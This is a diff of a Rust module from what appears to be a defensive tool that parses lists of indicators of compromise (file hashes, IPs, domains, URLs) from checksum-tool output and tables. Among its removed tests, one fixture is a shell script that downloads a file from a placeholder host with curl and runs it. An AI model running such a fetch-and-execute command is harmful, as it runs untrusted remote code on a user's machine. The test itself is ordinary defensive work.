@@ -1,13 +1,19 @@
 //! Lists as people and tools write them: one thing a line, and words about it beside it.
 //!
 //! Takes what `sha256sum`, its BSD and OpenSSL kin, `certutil -hashfile` and `Get-FileHash` print, `HASH # remark`,
-//! `IP,host`, and tables with or without a head. The rest of a line is the remark. A line in which nothing is found stays
-//! whole, so that whoever asks can be told why.
+//! `IP,host`, and tables with or without a head. What else a line names is taken too; what stands behind `#`, `//` or `;`, or
+//! in a cell of words, is a remark, and what that names is counted. JSON and lines of keys with their values are no lists:
+//! they are searched as any text is. A line in which nothing is found stays whole, so that whoever asks can be told why.
 
+mod tools;
+
+use std::collections::HashSet;
 use std::net::IpAddr;
 
-use crate::ioc::extract::{Lengths, Passwords, is_of_passwords};
-use crate::ioc::{self, Decoy, ExtractOptions, HashKind, Indicator, is_hex};
+use crate::ioc::extract::{Lengths, Passwords, holds_next, is_json, is_of_passwords};
+use crate::ioc::{self, Decoy, ExtractOptions, Indicator};
+
+use self::tools::{announced, checksum, cleaned, hex_runs, is_frame, is_hash, labelled, spaced_hash};
 
 /// One thing of a list.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -23,18 +29,51 @@ pub struct Entry {
 /// Bytes at the start by which a list is told.
 const SAMPLE: usize = 64 << 10;
 
-/// Names of hashes at the start of a line, without hyphens, in capitals.
-const ALGORITHMS: &[&str] = &["MD5", "SHA1", "SHA256", "SHA2256", "SHA384", "SHA512", "SHA2512", "MACTRIPLEDES"];
+/// What begins a remark.
+const REMARKS: [&str; 3] = ["#", "//", ";"];
 
 /// Heads of columns in which nothing is meant to be looked up, however it looks.
 const BESIDE: &[&str] =
     &["file", "filename", "file_name", "name", "path", "comment", "note", "notes", "remark", "description", "title"];
 
-/// The things of a list, in its order. Blank lines and those that begin with `#` are left out.
-pub fn entries(text: &str) -> Vec<Entry> {
+/// What a list gives.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct List {
+    /// In its order. Blank lines and those that begin with `#` are left out.
+    pub entries: Vec<Entry>,
+    /// How many other values its remarks name, each once.
+    pub beside: usize,
+}
+
+/// Reads a list.
+pub fn read(text: &str) -> List {
+    if is_json(text) {
+        return List { entries: found(text), beside: 0 };
+    }
     let mut reader = Reader::default();
     text.lines().enumerate().for_each(|(index, line)| reader.line(index + 1, line.trim()));
     reader.finish()
+}
+
+/// The things of a list.
+#[cfg(feature = "testing")]
+pub fn entries(text: &str) -> Vec<Entry> {
+    read(text).entries
+}
+
+/// What a text that is no list names; its first line where that is nothing.
+fn found(text: &str) -> Vec<Entry> {
+    let entries: Vec<Entry> = ticked(text).map(|(line, text, remark)| Entry { line, text, remark }).collect();
+    let first = || text.lines().enumerate().find(|(_, line)| !line.trim().is_empty());
+    let whole = if entries.is_empty() { first() } else { None };
+    let whole = whole.map(|(at, line)| Entry { line: at + 1, text: line.trim().to_owned(), remark: String::new() });
+    entries.into_iter().chain(whole).collect()
+}
+
+/// What a text names and probably means: the line, the value, and what else is said of it.
+fn ticked(text: &str) -> impl Iterator<Item = (usize, String, String)> {
+    let items = ioc::extract(text, &ExtractOptions::default()).items.into_iter();
+    items.filter(|item| item.ticked).map(|item| (item.line, item.indicator.value(), item.remark.to_string()))
 }
 
 /// Whether a text is a list and little else: at least four of five lines name something.
@@ -43,7 +82,7 @@ pub fn is_list(text: &str) -> bool {
     let sample = text.get(..cut).unwrap_or_default();
     // A line that was cut says nothing.
     let sample = if cut < text.len() { sample.rsplit_once('\n').map_or(sample, |(whole, _)| whole) } else { sample };
-    let entries = entries(sample);
+    let entries = read(sample).entries;
     let named = entries.iter().filter(|entry| ioc::classify(&entry.text).is_ok()).count();
     named > 0 && named * 5 >= entries.len() * 4
 }
@@ -93,6 +132,8 @@ struct Reader {
     file: String,
     passwords: Passwords,
     lengths: Lengths,
+    /// What remarks name.
+    beside: HashSet<String>,
 }
 
 struct Head {
@@ -138,8 +179,11 @@ impl Reader {
             return self.push(number, hex.to_owned(), remark);
         }
         let known = self.head.as_ref().map(|head| head.separator);
-        if known.is_none_or(|separator| !line.contains(separator)) && ioc::classify(line).is_ok() {
+        if known.is_none_or(|separator| !line.contains(separator)) && ioc::classify(line).is_ok() && !holds_next(line) {
             return self.push(number, line.to_owned(), String::new());
+        }
+        if known.is_none() && is_record(line) {
+            return self.found(number, line);
         }
         match known.into_iter().chain(['\t', ';', ',', '|']).find(|separator| line.contains(*separator)) {
             Some(separator) => self.row(number, line, separator),
@@ -152,33 +196,41 @@ impl Reader {
         let cells = cells(line, separator);
         let label =
             |column: usize| self.head.as_ref().and_then(|head| head.labels.get(column)).map_or("", String::as_str);
-        let classified: Vec<bool> = cells.iter().map(|cell| ioc::classify(cell).is_ok()).collect();
+        let is_one: Vec<bool> = cells.iter().map(|cell| ioc::classify(cell).is_ok() && !is_pair(cell)).collect();
         // The hash of a password is nobody else's business.
         if (0..cells.len()).any(|column| is_of_passwords(label(column))) {
             return self.push(number, line.to_owned(), String::new());
         }
-        if !classified.contains(&true) {
-            if self.entries.is_empty() && self.head.is_none() {
+        if !is_one.contains(&true) {
+            // A head names columns and nothing else.
+            if self.entries.is_empty() && self.head.is_none() && ticked(line).next().is_none() {
                 let labels = cells.iter().map(|cell| cell.to_lowercase()).collect();
                 self.head = Some(Head { line: number, text: line.to_owned(), labels, separator });
                 return;
             }
             return self.words(number, line);
         }
+        // A sentence or the line of a log that has the sign in it.
+        let begins_with_words = cells.first().filter(|_| self.head.is_none() && is_one.first() == Some(&false));
+        if begins_with_words.is_some_and(|cell| ticked(cell).next().is_some()) {
+            return self.words(number, line);
+        }
         let mut meant: Vec<bool> = cells
             .iter()
-            .zip(&classified)
+            .zip(&is_one)
             .enumerate()
             .map(|(column, (cell, ok))| *ok && !BESIDE.contains(&label(column)) && is_meant(cell))
             .collect();
         if !meant.contains(&true) {
-            meant = classified;
+            meant.clone_from(&is_one);
         }
         for (column, cell) in cells.iter().enumerate().filter(|(column, _)| meant.get(*column) == Some(&true)) {
             let others = cells.iter().enumerate().filter(|(other, cell)| *other != column && !cell.is_empty());
             let remark = others.map(|(_, cell)| cell.as_str()).collect::<Vec<_>>().join(", ");
             self.push(number, cell.clone(), cleaned(&remark).to_owned());
         }
+        let words = cells.iter().zip(&is_one).filter(|(cell, is_one)| !**is_one && cell.contains([' ', '=', '"']));
+        words.for_each(|(cell, _)| self.remark(cell));
     }
 
     /// A line of words: the first is the thing, or else what is found among them.
@@ -200,26 +252,42 @@ impl Reader {
                 remark = behind.trim_start();
             }
             if !names.is_empty() {
+                self.remark(remark);
                 let names = names.into_iter();
                 return names.for_each(|name| self.push(number, name.to_owned(), cleaned(remark).to_owned()));
             }
+        }
+        if line.split_whitespace().any(holds_next) {
+            return self.found(number, line);
         }
         let all: Vec<&str> = line.split_whitespace().map(ioc::unwrapped_url).collect();
         let is_thing = |word: &&str| ioc::classify(word).is_ok() && is_meant(word);
         if all.len() > 1 && all.iter().all(is_thing) {
             return all.into_iter().for_each(|word| self.push(number, word.to_owned(), String::new()));
         }
-        if first_is.is_ok() && (rest.is_empty() || is_meant(first)) {
-            return self.push(number, first.to_owned(), cleaned(rest).to_owned());
+        match first_is {
+            Ok(indicator) if rest.is_empty() || is_meant(first) => {
+                self.push(number, first.to_owned(), cleaned(rest).to_owned());
+                if REMARKS.iter().any(|sign| rest.starts_with(sign)) {
+                    return self.remark(rest);
+                }
+                let asked = indicator.value();
+                for (_, text, remark) in ticked(line).filter(|(_, text, _)| *text != asked) {
+                    self.push(number, text, remark);
+                }
+            }
+            _ => self.found(number, line),
         }
-        let found = ioc::extract(line, &ExtractOptions::default());
-        let before = self.entries.len();
-        for item in found.items.iter().filter(|item| item.ticked) {
-            self.push(number, item.indicator.value(), item.remark.to_string());
-        }
-        if self.entries.len() == before {
-            self.push(number, line.to_owned(), String::new());
-        }
+    }
+
+    /// A line that is searched as any text is.
+    fn found(&mut self, number: usize, line: &str) {
+        self.entries.extend(found(line).into_iter().map(|entry| Entry { line: number, ..entry }));
+    }
+
+    /// Notes what a remark names.
+    fn remark(&mut self, words: &str) {
+        self.beside.extend(ticked(words).map(|(_, text, _)| text));
     }
 
     fn push(&mut self, line: usize, text: String, remark: String) {
@@ -227,91 +295,34 @@ impl Reader {
     }
 
     /// A first line that names no columns of anything is a line like all others.
-    fn finish(mut self) -> Vec<Entry> {
+    fn finish(mut self) -> List {
         let passed = self.lengths.finish();
         passed.joined.into_iter().chain(passed.incomplete).for_each(|(hex, line)| self.push(line, hex, String::new()));
         if let Some(head) = self.head.take().filter(|_| self.entries.is_empty()) {
             self.words(head.line, &head.text);
         }
-        self.entries
-    }
-}
-
-/// Where words of hexadecimal digits stand that are as long as a hash.
-fn hex_runs(line: &str) -> Vec<(usize, usize)> {
-    let mut from = 0;
-    let words = line.split(|c: char| !c.is_ascii_alphanumeric());
-    let runs = words.map(|word| {
-        let start = from;
-        let end = start + word.len();
-        from = end + line.get(end..).and_then(|rest| rest.chars().next()).map_or(0, char::len_utf8);
-        (start, end)
-    });
-    runs.filter(|(start, end)| line.get(*start..*end).is_some_and(is_hash)).collect()
-}
-
-/// Whether the line is what tools print around their results.
-fn is_frame(line: &str) -> bool {
-    let words: Vec<&str> = line.split_whitespace().collect();
-    line.starts_with("CertUtil:")
-        || line.chars().all(|c| matches!(c, '-' | '=' | '+' | '|' | ' '))
-        || matches!(words.as_slice(), ["Algorithm", "Hash", ..] | ["Algorithm", ":", _])
-}
-
-/// `SHA256 hash of invoice.exe:`, in any language: the file that is spoken of.
-fn announced(line: &str) -> Option<String> {
-    let said = line.strip_suffix(':')?;
-    let at = said.to_ascii_lowercase().find("hash")?;
-    // Everything before the file: `hash of`, `hash of file`, `-Hash von`.
-    let after = said.get(at + 4..)?.trim_start_matches(|c: char| !c.is_whitespace()).trim_start();
-    let name = after.split_once(' ').map_or("", |(_, name)| name);
-    Some(name.strip_prefix("file ").unwrap_or(name).trim().to_owned())
-}
-
-/// A hash alone on its line, also in pairs of digits with spaces between them, as older systems print it.
-fn spaced_hash(line: &str) -> Option<String> {
-    if !line.contains(' ') {
-        return is_hash(line).then(|| line.to_owned());
-    }
-    let in_pairs = line.split(' ').all(|pair| pair.len() == 2 && is_hex(pair));
-    let hex: String = line.split(' ').collect();
-    (in_pairs && is_hash(&hex)).then_some(hex)
-}
-
-/// `Hash      : 9F86…` as (`hash`, `9F86…`).
-fn labelled(line: &str) -> Option<(&'static str, &str)> {
-    let (key, value) = line.split_once(" :").or_else(|| line.split_once(':'))?;
-    let key = ["hash", "path"].into_iter().find(|known| known.eq_ignore_ascii_case(key.trim()))?;
-    Some((key, value.trim()))
-}
-
-/// A hash and what it is the hash of, as the tools that check files write it.
-fn checksum(line: &str) -> Option<(&str, String)> {
-    let (first, rest) = line.split_once(' ').unwrap_or((line, ""));
-    // `\` at the start says that the name has escapes in it.
-    let plain = first.strip_prefix('\\').unwrap_or(first);
-    if is_hash(plain) && !rest.is_empty() {
-        return Some((plain, cleaned(rest).to_owned()));
-    }
-    if is_algorithm(first) {
-        let (hex, path) = rest.trim_start().split_once(' ').unwrap_or((rest.trim_start(), ""));
-        if is_hash(hex) {
-            return Some((hex, path.trim().to_owned()));
+        if !self.beside.is_empty() {
+            let asked = self.entries.iter().filter_map(|entry| ioc::classify(&entry.text).ok());
+            for indicator in asked {
+                self.beside.remove(&indicator.value());
+            }
         }
+        List { entries: self.entries, beside: self.beside.len() }
     }
-    let (before, hex) = line.rsplit_once('=')?;
-    let (algorithm, name) = before.trim_end().strip_suffix(')')?.split_once('(')?;
-    (is_algorithm(algorithm.trim()) && is_hash(hex.trim())).then(|| (hex.trim(), name.to_owned()))
 }
 
-fn is_algorithm(word: &str) -> bool {
-    let word: String = word.chars().filter(|c| *c != '-').collect();
-    ALGORITHMS.iter().any(|known| known.eq_ignore_ascii_case(&word))
+/// Whether a line is of keys and their values, as logs and alerts are: `{"ip":…`, `src=…,dst=…`.
+fn is_record(line: &str) -> bool {
+    is_json(line) || line.contains("\":") || line.split([' ', '\t', ',', ';', '|']).next().is_some_and(is_pair)
 }
 
-/// Also of kinds that can't be looked up: who asks is told so.
-fn is_hash(text: &str) -> bool {
-    HashKind::of(text).is_some() || matches!(text.len(), 96 | 128) && is_hex(text)
+/// `src=198.51.100.7`
+fn is_pair(cell: &str) -> bool {
+    let is_key = |key: &str| {
+        key.starts_with(|c: char| c.is_ascii_alphabetic())
+            && key.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-.".contains(&byte))
+    };
+    cell.split_once('=').is_some_and(|(key, value)| is_key(key.trim_end()) && !value.trim_matches('=').is_empty())
 }
 
 /// Whether a cell is what it looks like: not the name of a file, nor a version. What is the user's own counts, for who asks
@@ -339,115 +350,5 @@ fn cells(line: &str, separator: char) -> Vec<String> {
     record.map(|record| record.iter().map(str::to_owned).collect()).unwrap_or_default()
 }
 
-/// A remark without what only parts it from the thing.
-fn cleaned(remark: &str) -> &str {
-    let remark = remark.trim_start_matches([' ', '\t', '*', '#', ';', ',', '|', ':', '=']);
-    let remark = ["// ", "-- ", "- ", "-> ", "=> ", "– ", "— "]
-        .iter()
-        .fold(remark, |text, mark| text.strip_prefix(mark).map_or(text, str::trim_start));
-    if remark.trim() == "-" { "" } else { remark.trim() }
-}
-
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    const MD5: &str = "7809376fe32e44c957347816a47b3d65";
-    const SHA256: &str = "9714c722dde246144e8086e535b6782047da99854daf7bb3a48f2a4e02cbd056";
-
-    fn read(text: &str) -> Vec<(String, String)> {
-        entries(text).into_iter().map(|entry| (entry.text, entry.remark)).collect()
-    }
-
-    #[test]
-    fn a_url_alone_on_its_line_is_taken_sign_by_sign_and_one_among_words_without_the_sentence() {
-        gives("http://evil.example/login.\n", &[("http://evil.example/login.", "")]);
-        gives("http://evil.example/login. seen at noon", &[("http://evil.example/login", "seen at noon")]);
-        gives(
-            "http://evil.example/a http://evil.example/b.",
-            &[("http://evil.example/a", ""), ("http://evil.example/b", "")],
-        );
-    }
-
-    #[track_caller]
-    fn gives(text: &str, expected: &[(&str, &str)]) {
-        let expected: Vec<(String, String)> =
-            expected.iter().map(|(text, remark)| ((*text).to_owned(), (*remark).to_owned())).collect();
-        assert_eq!(read(text), expected, "{text}");
-    }
-
-    #[test]
-    fn what_tools_print_about_files_is_read_with_the_name_as_remark() {
-        gives(&format!("{MD5}  drop.bin\n{SHA256} *a b.exe\n"), &[(MD5, "drop.bin"), (SHA256, "a b.exe")]);
-        gives(&format!("\\{MD5}  a\\\\b.exe"), &[(MD5, "a\\\\b.exe")]);
-        gives(&format!("{MD5}  -"), &[(MD5, "")]);
-        gives(
-            &format!("SHA256 (a.exe) = {SHA256}\nSHA2-256(b.exe)= {SHA256}"),
-            &[(SHA256, "a.exe"), (SHA256, "b.exe")],
-        );
-        let certutil = |head: &str, hash: &str| {
-            format!("{head}\r\n{hash}\r\nCertUtil: -hashfile command completed successfully.\r\n")
-        };
-        gives(&certutil("SHA256 hash of a.exe:", SHA256), &[(SHA256, "a.exe")]);
-        gives(&certutil("MD5 hash of file C:\\x y.exe:", MD5), &[(MD5, "C:\\x y.exe")]);
-        gives(&certutil("SHA256-Hash von a.exe:", SHA256), &[(SHA256, "a.exe")]);
-        let pairs: Vec<&str> = (0..16).map(|at| &MD5[2 * at..2 * at + 2]).collect();
-        gives(&certutil("MD5 hash of file a.exe:", &pairs.join(" ")), &[(MD5, "a.exe")]);
-        let upper = SHA256.to_uppercase();
-        gives(
-            &format!(
-                "\nAlgorithm       Hash          Path\n---------       ----          ----\nSHA256          {upper}       C:\\a.exe\n\n"
-            ),
-            &[(&upper, "C:\\a.exe")],
-        );
-        gives(
-            &format!("\nAlgorithm : SHA256\nHash      : {upper}\nPath      : C:\\a b.exe\n"),
-            &[(&upper, "C:\\a b.exe")],
-        );
-    }
-
-    #[test]
-    fn the_rest_of_a_line_is_the_remark() {
-        gives(&format!("{MD5} # from the mail\n{MD5} - dropper"), &[(MD5, "from the mail"), (MD5, "dropper")]);
-        gives("a[.]example   sign-in page", &[("a[.]example", "sign-in page")]);
-        gives("203.0.113.7,b.example", &[("203.0.113.7", "b.example"), ("b.example", "203.0.113.7")]);
-        gives("0.0.0.0 evil.example # ads", &[("evil.example", "ads")]);
-        gives("0.0.0.0 a.example b.example # ads", &[("a.example", "ads"), ("b.example", "ads")]);
-        gives("https://a.example/x,y;z", &[("https://a.example/x,y;z", "")]);
-    }
-
-    #[test]
-    fn a_line_of_nothing_but_indicators_names_each_of_them() {
-        gives("192.0.2.4 198.51.100.5", &[("192.0.2.4", ""), ("198.51.100.5", "")]);
-        gives(
-            "evil.example  evil2.example evil3.example",
-            &[("evil.example", ""), ("evil2.example", ""), ("evil3.example", "")],
-        );
-        gives("evil.example seen by 198.51.100.5", &[("evil.example", "seen by 198.51.100.5")]);
-    }
-
-    #[test]
-    fn tables_are_read_with_and_without_a_head() {
-        let rows = format!("2026-11-24\t{SHA256}\tinvoice.pdf.zip\n");
-        gives(&rows, &[(SHA256, "2026-11-24, invoice.pdf.zip")]);
-        gives(&format!("date\tsha256\tname\n{rows}"), &[(SHA256, "2026-11-24, invoice.pdf.zip")]);
-        gives("host;name\nc2.example;report.example\n", &[("c2.example", "report.example")]);
-        gives("ip,comment\n\"203.0.113.7\",\"a, \"\"b\"\"\"\n", &[("203.0.113.7", "a, \"b\"")]);
-        gives(&format!("{MD5},a\n{MD5},b\n"), &[(MD5, "a"), (MD5, "b")]);
-    }
-
-    #[test]
-    fn a_line_without_anything_stays_whole() {
-        gives("deadbeef\n# left out\n\nfoo, bar\na.example", &[("deadbeef", ""), ("foo, bar", ""), ("a.example", "")]);
-        gives("foo, bar", &[("foo, bar", "")]);
-        gives("comment/x-1 ", &[("comment/x-1", "")]);
-    }
-
-    #[test]
-    fn a_script_or_mail_is_no_list() {
-        assert!(is_list(&format!("{MD5}  a\nnonsense\n{SHA256}\na.example\n203.0.113.7\n")));
-        assert!(!is_list("#!/bin/sh\ncurl -O http://a.example/x\nchmod +x x\n./x &\nexit 0\n"));
-        assert!(!is_list("From: a@b.example\nTo: c@d.example\nSubject: hello\n\nhello\nsee http://a.example/\n"));
-        assert!(!is_list(""));
-    }
-}
+mod tests;
